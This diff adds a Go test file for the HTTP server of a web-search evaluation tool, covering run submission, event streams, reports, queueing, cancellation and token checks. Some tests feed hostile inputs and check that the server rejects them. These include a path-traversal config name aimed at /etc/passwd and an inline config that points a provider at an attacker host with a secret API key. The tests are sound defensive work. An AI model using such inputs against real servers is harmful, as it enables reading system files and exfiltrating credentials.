@@ -0,0 +1,365 @@
+package server
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"errors"
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/lamim/SanityWebEval/internal/config"
+	"github.com/lamim/SanityWebEval/internal/providers"
+	"github.com/lamim/SanityWebEval/internal/providers/testutil"
+)
+
+const testConfig = `
+[general]
+concurrency = 5
+timeout = "10s"
+
+[[tests]]
+name = "Search 1"
+type = "search"
+query = "golang"
+
+[[tests]]
+name = "Search 2"
+type = "search"
+query = "rust"
+`
+
+// stubProvider answers searches, optionally waiting on gate first, and
+// tracks how many searches run at once.
+type stubProvider struct {
+	name    string
+	gate    chan struct{}
+	active  int32
+	maxSeen int32
+}
+
+func (p *stubProvider) Name() string { return p.name }
+
+func (p *stubProvider) Capabilities() providers.CapabilitySet {
+	return providers.CapabilitySet{Search: providers.SupportNative}
+}
+
+func (p *stubProvider) SupportsOperation(opType string) bool {
+	return p.Capabilities().SupportsOperation(opType)
+}
+
+func (p *stubProvider) Search(ctx context.Context, query string, _ providers.SearchOptions) (*providers.SearchResult, error) {
+	active := atomic.AddInt32(&p.active, 1)
+	defer atomic.AddInt32(&p.active, -1)
+	for {
+		seen := atomic.LoadInt32(&p.maxSeen)
+		if active <= seen || atomic.CompareAndSwapInt32(&p.maxSeen, seen, active) {
+			break
+		}
+	}
+	if p.gate != nil {
+		select {
+		case <-p.gate:
+		case <-ctx.Done():
+			return nil, ctx.Err()
+		}
+	}
+	return &providers.SearchResult{
+		Query:       query,
+		Results:     []providers.SearchItem{{Title: query, URL: "https://example.com/" + query, Content: query}},
+		CreditsUsed: 1,
+	}, nil
+}
+
+func (p *stubProvider) Extract(context.Context, string, providers.ExtractOptions) (*providers.ExtractResult, error) {
+	return nil, errors.New("not supported")
+}
+
+func (p *stubProvider) Crawl(context.Context, string, providers.CrawlOptions) (*providers.CrawlResult, error) {
+	return nil, errors.New("not supported")
+}
+
+func newTestServer(t *testing.T, prov *stubProvider, opts Options) (*Server, string) {
+	t.Helper()
+	configDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(configDir, "nightly.toml"), []byte(testConfig), 0600); err != nil {
+		t.Fatal(err)
+	}
+	opts.ConfigDir = configDir
+	if opts.OutputDir == "" {
+		opts.OutputDir = t.TempDir()
+	}
+	opts.Providers = func(_ *config.Config, names []string) ([]providers.Provider, error) {
+		if len(names) > 0 && names[0] != prov.name {
+			return nil, errors.New("invalid provider(s): " + strings.Join(names, ", "))
+		}
+		return []providers.Provider{prov}, nil
+	}
+	srv, err := New(opts)
+	if err != nil {
+		t.Fatalf("New failed: %v", err)
+	}
+	t.Cleanup(srv.Close)
+	httpServer := testutil.NewIPv4Server(t, srv.Handler())
+	return srv, httpServer.URL
+}
+
+// testToken is sent with every test request; servers without a token ignore it.
+const testToken = "test-token"
+
+func do(t *testing.T, method, url string, body io.Reader) *http.Response {
+	t.Helper()
+	req, err := http.NewRequest(method, url, body) //nolint:noctx // test request
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Authorization", "Bearer "+testToken)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("%s %s failed: %v", method, url, err)
+	}
+	return resp
+}
+
+func submit(t *testing.T, baseURL, body string) (int, Run) {
+	t.Helper()
+	resp := do(t, http.MethodPost, baseURL+"/api/runs", strings.NewReader(body))
+	defer func() { _ = resp.Body.Close() }()
+	var info Run
+	_ = json.NewDecoder(resp.Body).Decode(&info)
+	return resp.StatusCode, info
+}
+
+func getJSON(t *testing.T, url string, v interface{}) int {
+	t.Helper()
+	resp := do(t, http.MethodGet, url, nil)
+	defer func() { _ = resp.Body.Close() }()
+	if v != nil {
+		_ = json.NewDecoder(resp.Body).Decode(v)
+	}
+	return resp.StatusCode
+}
+
+func waitFor(t *testing.T, baseURL, id string, status Status) Run {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for time.Now().Before(deadline) {
+		var info Run
+		getJSON(t, baseURL+"/api/runs/"+id, &info)
+		if info.Status == status {
+			return info
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Fatalf("run %s did not reach %s", id, status)
+	return Run{}
+}
+
+func TestServer_RunLifecycle(t *testing.T) {
+	prov := &stubProvider{name: "stub"}
+	outputDir := t.TempDir()
+	_, baseURL := newTestServer(t, prov, Options{OutputDir: outputDir, Token: testToken, AllowInlineConfig: true})
+
+	code, info := submit(t, baseURL, `{"config": "nightly", "repeats": 2}`)
+	if code != http.StatusAccepted || info.ID == "" || info.Config != "nightly" || info.Total != 4 {
+		t.Fatalf("unexpected submission: %d %+v", code, info)
+	}
+	done := waitFor(t, baseURL, info.ID, StatusCompleted)
+	if done.Completed != 4 || len(done.Reports) != 3 || done.FinishedAt == nil {
+		t.Errorf("unexpected finished run: %+v", done)
+	}
+
+	// Event stream replays the run from the start and ends when it finished.
+	resp := do(t, http.MethodGet, baseURL+"/api/runs/"+info.ID+"/events", nil)
+	stream, _ := io.ReadAll(resp.Body)
+	_ = resp.Body.Close()
+	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
+		t.Errorf("unexpected events content type %q", ct)
+	}
+	if got := strings.Count(string(stream), "event: test_completed\n"); got != 4 {
+		t.Errorf("expected 4 test_completed events, got %d:\n%s", got, stream)
+	}
+	if !strings.Contains(string(stream), `"status":"completed"`) {
+		t.Errorf("expected final status event, got:\n%s", stream)
+	}
+
+	var reportJSON map[string]interface{}
+	if code := getJSON(t, baseURL+"/api/runs/"+info.ID+"/report/json", &reportJSON); code != http.StatusOK || reportJSON["results"] == nil {
+		t.Errorf("expected JSON report, got %d %v", code, reportJSON)
+	}
+	if code := getJSON(t, baseURL+"/api/runs/"+info.ID+"/report/pdf", nil); code != http.StatusNotFound {
+		t.Errorf("expected 404 for unknown report format, got %d", code)
+	}
+
+	code, inline := submit(t, baseURL, `{"config_toml": `+jsonString(testConfig)+`, "providers": ["stub"], "mode": "native"}`)
+	if code != http.StatusAccepted || inline.Config != "inline" || inline.Mode != "native" {
+		t.Fatalf("unexpected inline submission: %d %+v", code, inline)
+	}
+	waitFor(t, baseURL, inline.ID, StatusCompleted)
+
+	var list struct{ Runs []Run }
+	getJSON(t, baseURL+"/api/runs?status=completed", &list)
+	if len(list.Runs) != 2 || list.Runs[0].ID != inline.ID {
+		t.Errorf("expected both runs newest first, got %+v", list.Runs)
+	}
+	var configs struct{ Configs []string }
+	getJSON(t, baseURL+"/api/configs", &configs)
+	if len(configs.Configs) != 1 || configs.Configs[0] != "nightly" {
+		t.Errorf("unexpected configs: %v", configs.Configs)
+	}
+
+	// A new server on the same directory lists the past runs.
+	_, restartedURL := newTestServer(t, prov, Options{OutputDir: outputDir})
+	var past Run
+	if code := getJSON(t, restartedURL+"/api/runs/"+info.ID, &past); code != http.StatusOK || past.Status != StatusCompleted {
+		t.Errorf("expected past run after restart, got %d %+v", code, past)
+	}
+	if code := getJSON(t, restartedURL+"/api/runs/"+info.ID+"/report/html", nil); code != http.StatusOK {
+		t.Errorf("expected past run report after restart, got %d", code)
+	}
+}
+
+func TestServer_RejectsInvalidSubmissions(t *testing.T) {
+	_, baseURL := newTestServer(t, &stubProvider{name: "stub"}, Options{Token: testToken, AllowInlineConfig: true})
+	for _, body := range []string{
+		`{}`,
+		`{"config": "nightly", "config_toml": "x"}`,
+		`{"config": "../etc/passwd"}`,
+		`{"config": "missing"}`,
+		`{"config": "nightly", "mode": "fast"}`,
+		`{"config": "nightly", "providers": ["nope"]}`,
+		`{"config": "nightly", "unknown": true}`,
+		`{"config_toml": "[general]\nconcurrency = 1"}`,
+	} {
+		if code, _ := submit(t, baseURL, body); code != http.StatusBadRequest {
+			t.Errorf("expected 400 for %s, got %d", body, code)
+		}
+	}
+	if code := getJSON(t, baseURL+"/api/runs/nope", nil); code != http.StatusNotFound {
+		t.Errorf("expected 404 for unknown run, got %d", code)
+	}
+}
+
+func TestServer_TokenAndInlineConfigs(t *testing.T) {
+	prov := &stubProvider{name: "stub"}
+	if _, err := New(Options{OutputDir: t.TempDir(), AllowInlineConfig: true, Providers: func(*config.Config, []string) ([]providers.Provider, error) {
+		return nil, nil
+	}}); err == nil {
+		t.Error("expected inline configs without a token to be refused")
+	}
+
+	_, closedURL := newTestServer(t, prov, Options{})
+	if code, _ := submit(t, closedURL, `{"config_toml": `+jsonString(testConfig)+`}`); code != http.StatusForbidden {
+		t.Errorf("expected 403 for an inline config by default, got %d", code)
+	}
+
+	_, baseURL := newTestServer(t, prov, Options{Token: testToken, AllowInlineConfig: true})
+	for _, path := range []string{"/api/runs", "/api/configs"} {
+		resp, err := http.Get(baseURL + path) //nolint:noctx // test request
+		if err != nil {
+			t.Fatal(err)
+		}
+		_ = resp.Body.Close()
+		if resp.StatusCode != http.StatusUnauthorized {
+			t.Errorf("expected 401 for %s without a token, got %d", path, resp.StatusCode)
+		}
+	}
+	resp, err := http.Get(baseURL + "/healthz") //nolint:noctx // test request
+	if err != nil {
+		t.Fatal(err)
+	}
+	_ = resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Errorf("expected /healthz without a token, got %d", resp.StatusCode)
+	}
+
+	test := "\n[[tests]]\nname = \"Search\"\ntype = \"search\"\nquery = \"q\"\n"
+	for key, toml := range map[string]string{
+		"providers":            "[providers.leak]\ntype = \"exa\"\nbase_url = \"https://attacker.example\"\napi_key_env = \"SECRET\"\n" + test,
+		"general.fixtures_dir": "[general]\nfixtures_dir = \"/\"\n" + test,
+		"include":              "include = [\"/etc/*.toml\"]\n" + test,
+		"tests.reference_file": test + "reference_file = \"/etc/passwd\"\n",
+		"pricing.file":         "[pricing]\nfile = \"/etc/passwd\"\n" + test,
+	} {
+		resp := do(t, http.MethodPost, baseURL+"/api/runs", strings.NewReader(`{"config_toml": `+jsonString(toml)+`}`))
+		body, _ := io.ReadAll(resp.Body)
+		_ = resp.Body.Close()
+		if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), key) {
+			t.Errorf("expected %s to be rejected in inline configs, got %d %s", key, resp.StatusCode, body)
+		}
+	}
+}
+
+func TestServer_QueueAndSharedProviderLimits(t *testing.T) {
+	prov := &stubProvider{name: "stub", gate: make(chan struct{})}
+	limits := config.GeneralConfig{Concurrency: 5, ProviderConcurrency: map[string]int{"stub": 1}}
+	_, baseURL := newTestServer(t, prov, Options{MaxRuns: 2, Limits: limits})
+
+	_, first := submit(t, baseURL, `{"config": "nightly"}`)
+	_, second := submit(t, baseURL, `{"config": "nightly"}`)
+	waitFor(t, baseURL, first.ID, StatusRunning)
+	waitFor(t, baseURL, second.ID, StatusRunning)
+
+	// Each run's own config allows 5 concurrent tests; the shared limit holds
+	// the two runs together to one search at a time.
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		for i := 0; i < 4; i++ {
+			prov.gate <- struct{}{}
+		}
+	}()
+	waitFor(t, baseURL, first.ID, StatusCompleted)
+	waitFor(t, baseURL, second.ID, StatusCompleted)
+	wg.Wait()
+	if got := atomic.LoadInt32(&prov.maxSeen); got != 1 {
+		t.Errorf("expected at most 1 concurrent search across runs, got %d", got)
+	}
+}
+
+func TestServer_CancelQueuedRun(t *testing.T) {
+	prov := &stubProvider{name: "stub", gate: make(chan struct{})}
+	_, baseURL := newTestServer(t, prov, Options{MaxRuns: 1})
+
+	_, running := submit(t, baseURL, `{"config": "nightly"}`)
+	_, queued := submit(t, baseURL, `{"config": "nightly"}`)
+	waitFor(t, baseURL, running.ID, StatusRunning)
+
+	req, _ := http.NewRequest(http.MethodDelete, baseURL+"/api/runs/"+queued.ID, nil) //nolint:noctx // test request
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("cancel failed: %v", err)
+	}
+	_ = resp.Body.Close()
+	if resp.StatusCode != http.StatusAccepted {
+		t.Fatalf("expected 202 from cancel, got %d", resp.StatusCode)
+	}
+	waitFor(t, baseURL, queued.ID, StatusCanceled)
+
+	close(prov.gate)
+	waitFor(t, baseURL, running.ID, StatusCompleted)
+
+	// Streaming a canceled run returns at once with its final status.
+	resp, err = http.Get(baseURL + "/api/runs/" + queued.ID + "/events") //nolint:noctx // test request
+	if err != nil {
+		t.Fatalf("events request failed: %v", err)
+	}
+	defer func() { _ = resp.Body.Close() }()
+	line, _ := bufio.NewReader(resp.Body).ReadString('\n')
+	if line != "event: status\n" {
+		t.Errorf("expected status event, got %q", line)
+	}
+}
+
+func jsonString(s string) string {
+	data, _ := json.Marshal(s)
+	return string(data)
+}